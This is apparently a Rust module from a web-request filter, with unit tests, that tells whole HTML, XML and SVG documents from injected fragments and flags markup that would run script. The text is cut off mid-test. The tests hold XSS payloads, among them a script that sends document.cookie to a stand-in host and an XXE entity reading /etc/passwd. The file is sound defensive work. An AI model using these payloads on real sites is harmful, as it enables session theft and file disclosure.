//! Whole HTML documents sent as a value: rich text from an editor (TinyMCE, CKEditor,
//! Gutenberg), an HTML e-mail posted by an inbound-mail webhook, a CMS page.
//!
//! libinjection judges a value as if it were injected into a page, so it flags what every such
//! document holds: a `<!DOCTYPE>`, a `style` attribute, a `<style>` or `<meta>` element in an
//! e-mail's head, an `xmlns` on `<html>`, Outlook's `<!--[if mso]>` comments, a video embed's
//! `<iframe>`, an inline `data:image/png` picture. A document is judged instead by what runs
//! script or takes the page over when it is rendered: script elements, plugin and frame
//! elements other than a plain `<iframe>`, `<base>`, event handlers, `srcdoc`, script and
//! non-image `data:` URLs, `http-equiv` refresh and cookies, and script in CSS. What a
//! document cannot smuggle past this is what libinjection would also have missed; what it
//! lets through is HTML injection that runs nothing (an `<iframe>` of an `https:` page).

use libinjectionrs::xss::{Html5Flags, Html5State, TokenType};

/// Opening tags of ordinary content elements a value must hold at least this many of to be
/// judged as a document.
const DOCUMENT_TAGS: usize = 3;

/// Whether `value` is an HTML document rather than a fragment injected into one: it holds
/// at least [`DOCUMENT_TAGS`] opening tags of ordinary content elements (`<p>`, `<div>`,
/// `<td>`, `<h2>`, …). Padding an attack with such tags gains nothing:
/// [`document_runs_script`] still finds what runs.
pub fn is_document(value: &[u8]) -> bool {
    xml_document(value) || html_document(value) || player_embed(value) || svg_image(value)
}

/// Whether `value` is an inline SVG picture and nothing else: a whole `<svg>` element (after an
/// optional XML declaration) made only of shapes, text, gradients, clips, masks and filters
/// that load nothing, with no event handler, no link (`href`), no external `url(…)` and no
/// markup declaration. NFT metadata (`image_data`), avatar and icon fields, and design tools
/// send these; libinjection and the tag rules read the `<svg>` and its `xmlns` as an attack.
/// What could run or load something (`<script>`, `<foreignObject>`, `<a>`, `<use>`, `<image>`,
/// `<animate>`, `<set>`, `<style>`, `feImage`, `onload=`) keeps the value a fragment.
fn svg_image(value: &[u8]) -> bool {
    const DRAWING: &[&[u8]] = &[
        b"svg",
        b"g",
        b"defs",
        b"rect",
        b"circle",
        b"ellipse",
        b"line",
        b"polyline",
        b"polygon",
        b"path",
        b"text",
        b"tspan",
        b"title",
        b"desc",
        b"lineargradient",
        b"radialgradient",
        b"stop",
        b"clippath",
        b"mask",
        b"pattern",
        b"marker",
        b"filter",
        b"fegaussianblur",
        b"feoffset",
        b"feblend",
        b"fecolormatrix",
        b"feflood",
        b"fecomposite",
        b"femerge",
        b"femergenode",
        b"fedropshadow",
        b"feturbulence",
        b"fedisplacementmap",
        b"femorphology",
        b"fecomponenttransfer",
        b"fefunca",
        b"fefuncr",
        b"fefuncg",
        b"fefuncb",
    ];
    let mut t = value.trim_ascii();
    if t.get(..5).is_some_and(|p| p.eq_ignore_ascii_case(b"<?xml")) {
        let Some(end) = memchr::memmem::find(t, b"?>") else {
            return false;
        };
        t = t.get(end + 2..).unwrap_or_default().trim_ascii_start();
    }
    let starts = t.get(..4).is_some_and(|p| p.eq_ignore_ascii_case(b"<svg"))
        && matches!(t.get(4), Some(b' ' | b'>' | b'\t' | b'\r' | b'\n'));
    let ends = t
        .len()
        .checked_sub(6)
        .and_then(|at| t.get(at..))
        .is_some_and(|e| e.eq_ignore_ascii_case(b"</svg>"));
    if !(starts && ends) {
        return false;
    }
    let lower = t.to_ascii_lowercase();
    let finds = |needle: &[u8]| memchr::memmem::find(&lower, needle).is_some();
    if [
        &b"href"[..],
        b"<!",
        b"javascript",
        b"&#",
        b"expression",
        b"behavior",
        b"binding",
        b"@import",
    ]
    .iter()
    .any(|n| finds(n))
    {
        return false;
    }
    // `url(#gradient)` refers to the picture itself; any other `url(` loads something.
    let mut rest = lower.as_slice();
    while let Some(at) = memchr::memmem::find(rest, b"url(") {
        let arg = rest.get(at + 4..).unwrap_or_default().trim_ascii_start();
        let arg = arg
            .strip_prefix(b"'")
            .or_else(|| arg.strip_prefix(b"\""))
            .unwrap_or(arg);
        if arg.first() != Some(&b'#') {
            return false;
        }
        rest = rest.get(at + 4..).unwrap_or_default();
    }
    // Every tag a drawing element, and no attribute an event handler (`onload=`).
    let mut rest = lower.as_slice();
    while let Some(at) = memchr::memchr(b'<', rest) {
        let after = rest.get(at + 1..).unwrap_or_default();
        let after = after.strip_prefix(b"/").unwrap_or(after);
        let end = after
            .iter()
            .position(|b| !b.is_ascii_alphanumeric())
            .unwrap_or(after.len());
        let (name, tail) = after.split_at(end);
        if !DRAWING.contains(&name) {
            return false;
        }
        let tag_end = memchr::memchr(b'>', tail).unwrap_or(tail.len());
        let tag = tail.get(..tag_end).unwrap_or_default();
        if event_handler(tag) {
            return false;
        }
        rest = tail;
    }
    true
}

/// Whether a tag's attributes (after its name, lower-cased) hold an event handler: `on…=`
/// after anything that ends an attribute name or value (a space, a form feed, a quote, a
/// slash, …), not inside a name (`data-on=`, `con=`).
fn event_handler(tag: &[u8]) -> bool {
    let mut rest = tag;
    let mut first = true;
    while let Some(at) = memchr::memmem::find(rest, b"on") {
        let before = at.checked_sub(1).and_then(|b| rest.get(b)).copied();
        let after = rest.get(at + 2..).unwrap_or_default();
        let starts_name = match before {
            Some(b) => !(b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')),
            // (The tag's first bytes follow its name, which ended at a non-name byte.)
            None => first,
        };
        first = false;
        if starts_name {
            let name = after
                .iter()
                .position(|b| !b.is_ascii_alphabetic())
                .unwrap_or(after.len());
            let next = after.get(name..).unwrap_or_default().trim_ascii_start();
            if name > 0 && next.first() == Some(&b'=') {
                return true;
            }
        }
        rest = after;
    }
    false
}

/// Whether `value` holds a media player's embed code, every `<iframe>` in it an `https:` page
/// of an embed URL (`https://www.youtube.com/embed/…`, `https://www.google.com/maps/embed?…`,
/// `https://player.vimeo.com/video/…`, `https://w.soundcloud.com/player/…`): what a CMS's
/// product description, a page builder's block or an editor's embed card (Ghost's lexical
/// JSON, with its quotes escaped) holds on its own, without the paragraphs around it that make
/// [`html_document`]. Judged like a document, by what would run: an event handler or a
/// `srcdoc` on the frame, or anything beside it, is still found.
fn player_embed(value: &[u8]) -> bool {
    let mut rest = value;
    let mut frames = 0usize;
    while let Some(at) = memchr::memchr(b'<', rest) {
        let after = rest.get(at + 1..).unwrap_or_default();
        rest = after;
        let name = after.get(..6).unwrap_or_default();
        if !name.eq_ignore_ascii_case(b"iframe") {
            continue;
        }
        let tag_end = memchr::memchr(b'>', after).unwrap_or(after.len());
        let tag = after.get(6..tag_end).unwrap_or_default();
        if !embed_src(tag) {
            return false;
        }
        frames += 1;
    }
    frames > 0
}

/// See [`player_embed`]: the frame's attributes (`tag`, after `<iframe`) have a `src` that is
/// an `https:` embed URL.
fn embed_src(tag: &[u8]) -> bool {
    let lower = tag.to_ascii_lowercase();
    let Some(at) = memchr::memmem::find(&lower, b" src=") else {
        return false;
    };
    let url = lower.get(at + 5..).unwrap_or_default();
    // (A quote, escaped when the code sits in a JSON string, then the URL.)
    let url = url.strip_prefix(b"\\").unwrap_or(url);
    let url = url
        .strip_prefix(b"\"")
        .or_else(|| url.strip_prefix(b"'"))
        .unwrap_or(url);
    let Some(url) = url.strip_prefix(b"https://") else {
        return false;
    };
    let end = url
        .iter()
        .position(|&b| matches!(b, b'"' | b'\'' | b'\\' | b' ' | b'\t' | b'\n'))
        .unwrap_or(url.len());
    let url = url.get(..end).unwrap_or_default();
    let host_end = url
        .iter()
        .position(|&b| matches!(b, b'/' | b'?' | b'#'))
        .unwrap_or(url.len());
    let (host, path) = url.split_at(host_end);
    let plain_host = !host.is_empty()
        && host
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
    plain_host
        && (host.starts_with(b"player.")
            || path.starts_with(b"/player")
            || memchr::memmem::find(path, b"/embed").is_some())
}

/// See [`is_document`]: the HTML half.
fn html_document(value: &[u8]) -> bool {
    let mut found = 0;
    let mut rest = value;
    while let Some(at) = memchr::memchr(b'<', rest) {
        let Some(after) = rest.get(at + 1..) else {
            break;
        };
        if content_tag(after) {
            found += 1;
            if found >= DOCUMENT_TAGS {
                return true;
            }
        }
        rest = after;
    }
    false
}

/// Whether `value` is a whole XML document: it starts with an XML declaration, or with a root
/// element that declares a namespace (`<t:RequestSecurityTokenResponse xmlns:t="…">`, a
/// WS-Federation sign-in response posted as a form field; a SOAP envelope) and ends with
/// that element's end tag. libinjection reads the `xmlns` such a document must carry as an
/// attack. One with a document type declaration, an entity, an XInclude or a schema location
/// (what makes a parser fetch or read something), or in the XHTML or SVG namespace (markup a
/// browser renders: HTML documents are [`html_document`]'s), is not one: every rule reads it
/// as a fragment.
fn xml_document(value: &[u8]) -> bool {
    let t = value.trim_ascii();
    // (The shape is decided at the value's ends; only a value of that shape is scanned whole.)
    let has = |needle: &[u8]| {
        t.windows(needle.len())
            .any(|w| w.eq_ignore_ascii_case(needle))
    };
    xml_shaped(t)
        && !(has(b"<!doctype")
            || has(b"<!entity")
            || has(b"xinclude")
            || has(b"schemalocation")
            || has(b"1999/xhtml")
            || has(b"2000/svg"))
}

/// See [`xml_document`]: an XML declaration first, or a root element that declares a namespace
/// and is closed last (`t` is trimmed).
fn xml_shaped(t: &[u8]) -> bool {
    if let Some(rest) = t.strip_prefix(b"<?xml") {
        return matches!(rest.first(), Some(b' ' | b'\t' | b'\r' | b'\n')) && t.ends_with(b">");
    }
    let Some(rest) = t.strip_prefix(b"<") else {
        return false;
    };
    let name_len = rest
        .iter()
        .position(|&b| !(b.is_ascii_alphanumeric() || matches!(b, b':' | b'_' | b'-' | b'.')))
        .unwrap_or(rest.len());
    let (name, after) = rest.split_at(name_len);
    let Some(tag) = memchr::memchr(b'>', after).and_then(|e| after.get(..e)) else {
        return false;
    };
    if !name.first().is_some_and(u8::is_ascii_alphabetic)
        || memchr::memmem::find(tag, b"xmlns").is_none()
    {
        return false;
    }
    t.strip_suffix(b">")
        .and_then(|t| t.strip_suffix(name))
        .is_some_and(|t| t.ends_with(b"</"))
}

/// Whether `after` (the bytes after a `<`) begins with the name of an ordinary content element
/// followed by the end of the name.
fn content_tag(after: &[u8]) -> bool {
    const NAMES: &[&[u8]] = &[
        b"p",
        b"div",
        b"span",
        b"br",
        b"h1",
        b"h2",
        b"h3",
        b"h4",
        b"h5",
        b"h6",
        b"ul",
        b"ol",
        b"li",
        b"table",
        b"tbody",
        b"thead",
        b"tr",
        b"td",
        b"th",
        b"a",
        b"img",
        b"strong",
        b"em",
        b"b",
        b"i",
        b"u",
        b"s",
        b"blockquote",
        b"pre",
        b"code",
        b"figure",
        b"figcaption",
        b"hr",
        b"html",
        b"head",
        b"body",
        b"title",
        b"section",
        b"article",
        b"header",
        b"footer",
        b"center",
        b"font",
        b"small",
        b"sup",
        b"sub",
        b"dl",
        b"dt",
        b"dd",
        b"caption",
    ];
    let end = after
        .iter()
        .position(|b| !b.is_ascii_alphanumeric())
        .unwrap_or(after.len());
    let (name, next) = after.split_at(end);
    let ends = matches!(
        next.first(),
        None | Some(b' ' | b'>' | b'/' | b'\t' | b'\r' | b'\n')
    );
    ends && NAMES.iter().any(|n| n.eq_ignore_ascii_case(name))
}

/// What an attribute's value is checked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Attr {
    Other,
    /// A URL the browser loads or follows (`href`, `src`, `action`, …).
    Url,
    /// A list of values an SVG animation sets (`values`, `to`, `from`): any may be a URL.
    UrlList,
    /// CSS (`style`).
    Style,
    /// The name of another attribute (SVG `attributeName`).
    Indirect,
    /// `<meta http-equiv>`.
    HttpEquiv,
    /// `<link rel>`.
    LinkRel,
}

/// Why `doc`, rendered, would run script or take the page over; `None` if it would not. Read
/// with libinjection's HTML5 tokenizer, in the data state (a document is not inside a tag).
pub fn document_runs_script(doc: &[u8]) -> Option<&'static str> {
    // (A picture made of drawing elements only runs nothing: its `<svg>` is no plugin.)
    if svg_image(doc) {
        return None;
    }
    let mut html = Html5State::new(doc, Html5Flags::DataState);
    let mut attr = Attr::Other;
    let mut tag = Tag::Other;
    let mut in_style = false;
    while html.next() {
        let token = html.token_start.get(..html.token_len).unwrap_or_default();
        if html.token_type != TokenType::AttrValue {
            attr = Attr::Other;
        }
        match html.token_type {
            TokenType::TagNameOpen => {
                tag = Tag::of(token);
                if tag == Tag::Black {
                    return Some("element that runs script or loads a plugin");
                }
                in_style = tag == Tag::Style;
            }
            TokenType::TagClose if token.eq_ignore_ascii_case(b"style") => in_style = false,
            TokenType::DataText if in_style && css_runs_script(token) => {
                return Some("script in a style element");
            }
            TokenType::AttrName => {
                attr = match attribute(token, tag) {
                    Ok(a) => a,
                    Err(why) => return Some(why),
                };
            }
            TokenType::AttrValue => {
                let bad = match attr {
                    Attr::Other => None,
                    Attr::Url => black_url(token).then_some("script or document URL"),
                    Attr::UrlList => token
                        .split(|&b| b == b';')
                        .any(black_url)
                        .then_some("animation to a script URL"),
                    Attr::Style => css_runs_script(token).then_some("script in a style attribute"),
                    Attr::Indirect => {
                        let t = trimmed_lower(token, 8);
                        t.starts_with(b"on")
                            .then_some("animation of an event handler")
                    }
                    Attr::HttpEquiv => {
                        let t = trimmed_lower(token, 16);
                        (t.starts_with(b"refresh") || t.starts_with(b"set-cookie"))
                            .then_some("meta refresh or cookie")
                    }
                    Attr::LinkRel => {
                        let t = trimmed_lower(token, 16);
                        (t.starts_with(b"import") || t.starts_with(b"prerender"))
                            .then_some("linked document")
                    }
                };
                if bad.is_some() {
                    return bad;
                }
                attr = Attr::Other;
            }
            TokenType::TagComment => {
                let t = trimmed_lower(token, 8);
                if token.contains(&b'`')
                    || t.starts_with(b"import")
                    || t.starts_with(b"entity")
                    // (`<?xml:namespace …>`, not the XML declaration `<?xml version=…?>`.)
                    || (t.starts_with(b"xml") && !t.starts_with(b"xmlversi"))
                {
                    return Some("comment the old IE parser runs");
                }
            }
            _ => {}
        }
    }
    None
}

/// The elements [`document_runs_script`] tells apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tag {
    Other,
    /// Runs script or a plugin, or takes the page over, whatever its attributes.
    Black,
    Meta,
    Link,
    Style,
}

impl Tag {
    fn of(name: &[u8]) -> Tag {
        const BLACK: &[&[u8]] = &[
            b"script",
            b"object",
            b"embed",
            b"applet",
            b"base",
            b"frame",
            b"frameset",
            b"isindex",
            b"noscript",
            b"vmlframe",
            b"import",
            b"handler",
            b"listener",
            b"xml",
            b"xss",
            b"comment",
            b"portal",
            b"fencedframe",
        ];
        let lower = name.to_ascii_lowercase();
        // Namespaced names (`v:vmlframe`) by their local part.
        let local = lower
            .rsplit(|&b| b == b':')
            .next()
            .unwrap_or(lower.as_slice());
        if BLACK.contains(&local) || local.starts_with(b"svg") || local.starts_with(b"xsl") {
            Tag::Black
        } else if local == b"meta" {
            Tag::Meta
        } else if local == b"link" {
            Tag::Link
        } else if local == b"style" {
            Tag::Style
        } else {
            Tag::Other
        }
    }
}

/// What an attribute of `tag` named `name` is checked for, or why its name alone is enough.
fn attribute(name: &[u8], tag: Tag) -> Result<Attr, &'static str> {
    let lower = name.to_ascii_lowercase();
    let n = lower.as_slice();
    if n.len() > 2 && n.starts_with(b"on") {
        return Err("event handler");
    }
    Ok(match n {
        b"srcdoc" => return Err("frame with inline document"),
        b"rel" if tag == Tag::Link => Attr::LinkRel,
        b"http-equiv" if tag == Tag::Meta => Attr::HttpEquiv,
        b"style" => Attr::Style,
        b"attributename" => Attr::Indirect,
        b"values" | b"to" | b"from" | b"by" => Attr::UrlList,
        b"href" | b"src" | b"action" | b"formaction" | b"background" | b"dynsrc" | b"lowsrc"
        | b"data" | b"poster" | b"codebase" | b"xlink:href" | b"datasrc" | b"folder" => Attr::Url,
        _ => Attr::Other,
    })
}

/// The first `max` bytes of `v` that a browser reads, lowercased: leading whitespace and
/// control bytes, and tabs and line breaks anywhere (`java&Tab;script:`), dropped; numeric
/// character references (`&#x6A;`, `&#106`) and `&Tab;`, `&NewLine;`, `&colon;` decoded.
fn trimmed_lower(v: &[u8], max: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(max);
    let mut i = 0;
    while out.len() < max {
        let Some(&b) = v.get(i) else { break };
        let (c, used) = if b == b'&' {
            entity(v.get(i..).unwrap_or_default())
        } else {
            (Some(b), 1)
        };
        i += used.max(1);
        if let Some(c) = c {
            if c > b' ' && c != 0x7f {
                out.push(c.to_ascii_lowercase());
            }
        }
    }
    out
}

/// The byte a character reference at the start of `s` stands for (`None`: a character
/// outside ASCII, or one a browser drops) and the bytes it takes; a lone `&` is itself.
fn entity(s: &[u8]) -> (Option<u8>, usize) {
    const NAMED: &[(&[u8], u8)] = &[
        (b"&tab;", b'\t'),
        (b"&newline;", b'\n'),
        (b"&colon;", b':'),
        (b"&lpar;", b'('),
        (b"&rpar;", b')'),
    ];
    for (name, c) in NAMED {
        if s.len() >= name.len()
            && s.get(..name.len())
                .is_some_and(|h| h.eq_ignore_ascii_case(name))
        {
            return (Some(*c), name.len());
        }
    }
    if s.get(1) != Some(&b'#') {
        return (Some(b'&'), 1);
    }
    let hex = matches!(s.get(2), Some(b'x' | b'X'));
    let start = if hex { 3 } else { 2 };
    let mut n: u32 = 0;
    let mut i = start;
    while let Some(&d) = s.get(i) {
        let v = match (hex, d) {
            (_, b'0'..=b'9') => u32::from(d - b'0'),
            (true, b'a'..=b'f') => u32::from(d - b'a' + 10),
            (true, b'A'..=b'F') => u32::from(d - b'A' + 10),
            _ => break,
        };
        n = n
            .saturating_mul(if hex { 16 } else { 10 })
            .saturating_add(v);
        i += 1;
    }
    if i == start {
        return (Some(b'&'), 1);
    }
    if s.get(i) == Some(&b';') {
        i += 1;
    }
    (u8::try_from(n).ok().filter(u8::is_ascii), i)
}

/// A URL that runs script or renders a document of its own when followed or loaded: a
/// `javascript:`, `vbscript:` or `view-source:` one, or a `data:` URL that is not a plain
/// raster image (`data:text/html`, `data:image/svg+xml`).
fn black_url(v: &[u8]) -> bool {
    let t = trimmed_lower(v, 24);
    if t.starts_with(b"javascript:")
        || t.starts_with(b"vbscript:")
        || t.starts_with(b"view-source:")
    {
        return true;
    }
    if let Some(media) = t.strip_prefix(b"data:") {
        const IMAGES: &[&[u8]] = &[
            b"image/png",
            b"image/jpeg",
            b"image/jpg",
            b"image/gif",
            b"image/webp",
            b"image/bmp",
            b"image/avif",
            b"image/x-icon",
        ];
        return !IMAGES.iter().any(|i| media.starts_with(i));
    }
    false
}

/// CSS that runs script: `expression(`, `behavior:`, `-moz-binding`, a `javascript:` or
/// `vbscript:` URL; read with comments and backslash escapes dropped (`exp/**/ression(`,
/// `\65 xpression(`).
fn css_runs_script(css: &[u8]) -> bool {
    let mut plain = Vec::with_capacity(css.len());
    let mut i = 0;
    while let Some(&b) = css.get(i) {
        if b == b'/' && css.get(i + 1) == Some(&b'*') {
            let end = memchr::memmem::find(css.get(i + 2..).unwrap_or_default(), b"*/")
                .map_or(css.len(), |e| i + 2 + e + 2);
            i = end;
            continue;
        }
        if b == b'\\' {
            // A hex escape (`\65 `) stands for its character; any other escaped byte for itself.
            let digits = css
                .get(i + 1..)
                .unwrap_or_default()
                .iter()
                .take(6)
                .take_while(|d| d.is_ascii_hexdigit())
                .count();
            if digits > 0 {
                let hex = css.get(i + 1..i + 1 + digits).unwrap_or_default();
                let code = std::str::from_utf8(hex)
                    .ok()
                    .and_then(|h| u32::from_str_radix(h, 16).ok())
                    .and_then(|c| u8::try_from(c).ok());
                if let Some(c) = code {
                    plain.push(c.to_ascii_lowercase());
                }
                i += 1 + digits;
                if css.get(i) == Some(&b' ') {
                    i += 1;
                }
            } else {
                i += 1;
            }
            continue;
        }
        if !b.is_ascii_whitespace() && b != 0 {
            plain.push(b.to_ascii_lowercase());
        }
        i += 1;
    }
    const SCRIPT: &[&[u8]] = &[
        b"expression(",
        b"behavior:",
        b"behaviour:",
        b"-moz-binding",
        b"javascript:",
        b"vbscript:",
    ];
    SCRIPT
        .iter()
        .any(|s| memchr::memmem::find(&plain, s).is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    const EMAIL: &str = r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<meta name="viewport" content="width=device-width"><link href="https://fonts.example.com/css?family=Inter" rel="stylesheet">
<style type="text/css">body{margin:0} .btn{background:#0a6;color:#fff} @media (max-width:600px){.col{width:100%!important}}</style>
<!--[if mso]><style>table{border-collapse:collapse}</style><![endif]--></head>
<body><table role="presentation" width="100%"><tr><td style="padding: 24px; font-family: Inter, Arial, sans-serif;">
<h1 style="color: rgb(224, 62, 45);">Your receipt</h1><p>Thanks for your order!</p>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" width="120">
<p><a href="https://shop.example/orders/123" class="btn">View order</a></p></td></tr></table></body></html>"#;

    const ARTICLE: &str = r#"<h2>Can't log in after a reset</h2><p>Try <em>clearing cookies</em> first, then:</p>
<ul><li>open <a href="https://help.example/reset" target="_blank" rel="noopener">the reset page</a></li><li>request a new link</li></ul>
<p><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315" frameborder="0" allowfullscreen="allowfullscreen"></iframe></p>
<p><span style="color: #e03e2d;">Note:</span> links expire after 24 hours.</p>"#;

    #[test]
    fn documents_are_told_from_fragments() {
        assert!(is_document(EMAIL.as_bytes()));
        assert!(is_document(ARTICLE.as_bytes()));
        assert!(!is_document(b"<img src=x onerror=alert(1)>"));
        assert!(!is_document(b"<b>bold</b> and <i>it</i>"));
        assert!(!is_document(b"a <pre-tag> <paragraph> <table-of-contents>"));
    }

    #[test]
    fn player_embeds_are_judged_as_documents() {
        for embed in [
            r#"<iframe width="560" height="315" src="https://www.youtube.com/embed/kJQP7kiw5Fk?si=x" title="YouTube video player" frameborder="0" allowfullscreen></iframe>"#,
            r#"{"type":"embed","html":"<iframe width=\"560\" src=\"https://www.youtube.com/embed/aqz-KE-bpKQ\" allowfullscreen></iframe>"}"#,
            r#"<iframe src='https://player.vimeo.com/video/76979871?h=8272103f6e' allow="autoplay"></iframe>"#,
            r#"<IFRAME SRC="https://www.google.com/maps/embed?pb=!1m18" loading="lazy"></IFRAME> <iframe src="https://w.soundcloud.com/player/?url=x"></iframe>"#,
        ] {
            assert!(is_document(embed.as_bytes()), "{embed}");
            assert_eq!(document_runs_script(embed.as_bytes()), None, "{embed}");
        }
        // Not embeds: another page, a script URL, a frame that is not every frame's kind.
        for fragment in [
            r#"<iframe src="https://evil.example/phish"></iframe>"#,
            r#"<iframe src="javascript:alert(1)//embed/"></iframe>"#,
            r#"<iframe src="//www.youtube.com/embed/x"></iframe>"#,
            r#"<iframe src="https://a@evil.example/embed/"></iframe>"#,
            r#"<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="https://evil.example/"></iframe>"#,
            r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
        ] {
            assert!(!is_document(fragment.as_bytes()), "{fragment}");
        }
        // What runs beside or on an embed is still found.
        for attack in [
            r#"<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>"#,
            r#"<iframe src="https://www.youtube.com/embed/x" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>"#,
            r#"<iframe src="https://www.youtube.com/embed/x"></iframe><script>alert(1)</script>"#,
            r#"<iframe src="https://www.youtube.com/embed/x"></iframe><img src=x onerror=alert(1)>"#,
        ] {
            assert!(is_document(attack.as_bytes()), "{attack}");
            assert!(
                document_runs_script(attack.as_bytes()).is_some(),
                "{attack}"
            );
        }
    }

    const WSFED: &str = r#"<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"><t:Lifetime><wsu:Created xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">2026-12-03T04:35:34Z</wsu:Created></t:Lifetime><wsp:AppliesTo xmlns:wsp="http://schemas.xmlsoap.org/ws/2004/09/policy"><wsa:EndpointReference xmlns:wsa="http://www.w3.org/2005/08/addressing"><wsa:Address>https://wiki.example.edu/</wsa:Address></wsa:EndpointReference></wsp:AppliesTo></t:RequestSecurityTokenResponse>"#;

    #[test]
    fn inline_svg_pictures_are_documents() {
        for svg in [
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 32 32\"><rect width=\"32\" height=\"32\" fill=\"#23bd2c\"/><circle cx=\"16\" cy=\"16\" r=\"6\" fill=\"#14bf0d\"/></svg>",
            "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#fff\"/></linearGradient></defs><path d=\"M0 0h9v9z\" fill=\"url(#g)\"/><text x=\"1\" y=\"8\">gm &amp; gn</text></svg>",
        ] {
            assert!(is_document(svg.as_bytes()), "{svg}");
            assert_eq!(document_runs_script(svg.as_bytes()), None, "{svg}");
        }
        for fragment in [
            "<svg onload=alert(1)>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect/></svg>",
            "<svg><rect/><script>alert(1)</script></svg>",
            "<svg><a href=\"javascript:alert(1)\"><rect/></a></svg>",
            "<svg><use xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/></svg>",
            "<svg><foreignObject><iframe src=//x></iframe></foreignObject></svg>",
            "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
            "<svg><rect style=\"fill:url(https://evil.example/x)\"/></svg>",
            "<svg><rect/></svg><img src=x onerror=alert(1)>",
            "<svg><rect/><set attributeName=onmouseover to=alert(1) /></svg>",
            "<svg><rect/ onclick=alert(1)></svg>",
            "<svg><rect\x0conclick=alert(1)></svg>",
            "<svg><rect x=\"1\"onclick=alert(1)></svg>",
            "<svg><rect style=\"width:expression(alert(1))\"/></svg>",
        ] {
            assert!(!is_document(fragment.as_bytes()), "{fragment}");
        }
    }

    #[test]
    fn xml_documents_are_documents() {
        assert!(is_document(WSFED.as_bytes()));
        assert_eq!(document_runs_script(WSFED.as_bytes()), None);
        assert!(libinjectionrs::detect_xss(WSFED.as_bytes()).is_injection());
        assert!(is_document(
            b"<?xml version=\"1.0\"?>\n<order><id>7</id></order>"
        ));
        assert!(is_document(
            b"<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body/></soap:Envelope>"
        ));
        // Not whole documents: no namespace, another end tag, a fragment before or after.
        assert!(!is_document(b"<order><id>7</id></order>"));
        assert!(!is_document(b"<a xmlns=\"x\">1</a><svg onload=alert(1)>"));
        assert!(!is_document(b"x <a xmlns=\"x\">1</a>"));
        assert!(!is_document(b"<?xmlfoo <svg onload=alert(1)>"));
        // A DTD or XInclude makes it a fragment for every rule to read.
        assert!(!is_document(b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"));
        assert!(!is_document(
            b"<acp xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://x/foo\"/></acp>"
        ));
        assert!(!is_document(
            b"<aai xmlns=\"http://a.b/\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://a.b/ http://evil.example/a.xsd\">aai</aai>"
        ));
        // The XML declaration is not the old IE's `<?xml:namespace>`.
        assert_eq!(
            document_runs_script(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>"),
            None
        );
        assert!(document_runs_script(b"<?xml:namespace prefix=t ns=\"urn:schemas-microsoft-com:time\"><p>a</p><p>b</p><p>c</p>").is_some());
        // What a wrapped payload runs is still found.
        for doc in [
            r#"<x:a xmlns:x="urn:x"><svg onload=alert(1)></svg></x:a>"#,
            r#"<x xmlns="urn:x"><script>alert(1)</script></x>"#,
            r#"<?xml version="1.0"?><a href="javascript:alert(1)">x</a>"#,
        ] {
            assert!(is_document(doc.as_bytes()), "{doc}");
            assert!(document_runs_script(doc.as_bytes()).is_some(), "{doc}");
        }
    }

    #[test]
    fn ordinary_documents_run_nothing() {
        assert_eq!(document_runs_script(EMAIL.as_bytes()), None);
        assert_eq!(document_runs_script(ARTICLE.as_bytes()), None);
        // libinjection flags both (doctype, style attribute, meta, iframe, data: image).
        assert!(libinjectionrs::detect_xss(EMAIL.as_bytes()).is_injection());
        assert!(libinjectionrs::detect_xss(ARTICLE.as_bytes()).is_injection());
    }

    #[test]
    fn what_runs_is_found_inside_documents() {
        for attack in [
            "<script>fetch('//x.example/?c='+document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<object data=\"//x.example/a.swf\"></object>",
            "<embed src=\"//x.example/a.swf\">",
            "<base href=\"//x.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">",
            "<svg onload=alert(1)>",
            "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
            "<form action=\"javascript:alert(1)\"><button>go</button></form>",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<div style=\"width: expression(alert(1))\">x</div>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<div style=\"x:\\65 xpression(alert(1))\">x</div>",
            "<style>*{-moz-binding:url(//x.example/a.xml#x)}</style>",
